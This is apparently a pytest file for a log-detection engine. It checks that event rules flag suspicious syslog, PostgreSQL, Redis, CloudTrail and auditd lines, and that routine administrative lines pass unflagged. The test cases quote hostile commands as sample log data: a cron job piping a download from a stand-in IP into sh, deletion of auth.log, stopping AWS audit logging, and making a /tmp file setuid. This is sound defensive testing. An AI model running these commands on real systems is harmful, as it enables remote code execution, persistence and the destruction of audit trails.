"""Records that only event rules want to hear of: found in dense logs and among the unread."""

from __future__ import annotations

import numpy as np
import pytest

from tocsin.core.inputs import Block, SourceStatus
from tocsin.kernels.line_marks import ALWAYS
from tocsin.parse.known import known_templates
from tocsin.pipeline.assemble import assemble
from tocsin.pipeline.engine import Engine
from tocsin.pipeline.wiring import Wiring


@pytest.fixture(scope="module")
def wiring() -> Wiring:
    return assemble(year=2026)


def titles(wiring: Wiring, *lines: str, cut: int = 1 << 20) -> set[str]:
    engine = Engine(wiring, hold=True)
    data = "".join(line + "\n" for line in lines).encode()
    commands = [
        *engine.feed(SourceStatus("x", "opened", "log", "s", time_ns=1_770_000_000 * 10**9))
    ]
    for at in range(0, len(data), cut):
        commands += engine.feed(Block("x", data[at : at + cut], at))
    commands += [*engine.feed(SourceStatus("x", "ended")), *engine.finish()]
    rules = {
        detection.rule
        for command in commands
        if (incident := getattr(command, "incident", None)) is not None
        for detection in incident.detections
    }
    known = {rule.id: rule.title for rule in wiring.event_rules.rules}
    known |= {rule.id: rule.title for rule in wiring.event_rules.correlations}
    return {known[rule] for rule in rules if rule in known}


SUDO = "Feb  3 10:00:01 web01 sudo[8]:      ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND="
CASES = [
    (SUDO + "/usr/bin/rm /var/log/auth.log", "System log removed"),
    ("Feb  3 10:00:01 web01 CRON[9]: (root) CMD (curl -s http://203.0.113.7/a.sh | sh)",
     "Cron job that runs a download"),
    ("Feb  3 10:00:01 web01 sshd[3]: Accepted password for www-data from 203.0.113.9 port 4 ssh2",
     "Service account logged in over SSH"),
    ("2026-02-03 10:00:00.1 UTC [9] app@shop LOG:  statement: COPY t FROM PROGRAM 'id'",
     "PostgreSQL told to run a program"),
    ('1770112800.123456 [0 203.0.113.9:4444] "CONFIG" "SET" "dir" "/var/spool/cron"',
     "Redis told to write its data somewhere else"),
    ('{"eventTime":"2026-02-03T10:00:00Z","eventSource":"cloudtrail.amazonaws.com",'
     '"eventName":"StopLogging","sourceIPAddress":"203.0.113.9"}', "Audit log of AWS stopped"),
    ('type=EXECVE msg=audit(1770112800.1:8): argc=3 a0="chmod" a1="4755" a2="/tmp/.sh"',
     "Shell or file of a writable folder made setuid"),
]  # fmt: skip


@pytest.mark.parametrize(("line", "title"), CASES)
def test_a_rule_fires_on_a_real_line(wiring: Wiring, line: str, title: str) -> None:
    assert title in titles(wiring, line)


def test_any_cut_gives_the_same(wiring: Wiring) -> None:
    lines = [line for line, _ in CASES]

    assert titles(wiring, *lines, cut=37) == titles(wiring, *lines)


def test_ordinary_work_is_not_passed_on(wiring: Wiring) -> None:
    assert titles(wiring, SUDO + "/usr/bin/systemctl restart nginx",
                  "Feb  3 10:00:01 web01 CRON[9]: (root) CMD (run-parts /etc/cron.hourly)") == set()  # fmt: skip


def test_a_correlation_is_raised_with_its_own_id(wiring: Wiring) -> None:
    found = titles(
        wiring,
        "Feb  3 10:00:01 web01 useradd[9]: new user: name=eve, UID=1002, GID=1002, home=/home/eve,"
        " shell=/bin/bash, from=none",
        "Feb  3 10:10:01 web01 userdel[9]: delete user 'eve'",
    )

    assert "Account made and deleted within an hour" in found
    assert "Account made" not in found


def test_shipped_rules_leave_log_in_lines_to_kernels(wiring: Wiring) -> None:
    compiled = known_templates()
    texts = wiring.rule_texts
    refused = [
        number
        for number, meaning in enumerate(compiled.meanings)
        if meaning.outcome == "failure" and compiled.families[number].dataset in {"sshd", "pam"}
    ]

    assert not np.any(texts.of_template[refused])
    assert not np.any(texts.of_family == ALWAYS)
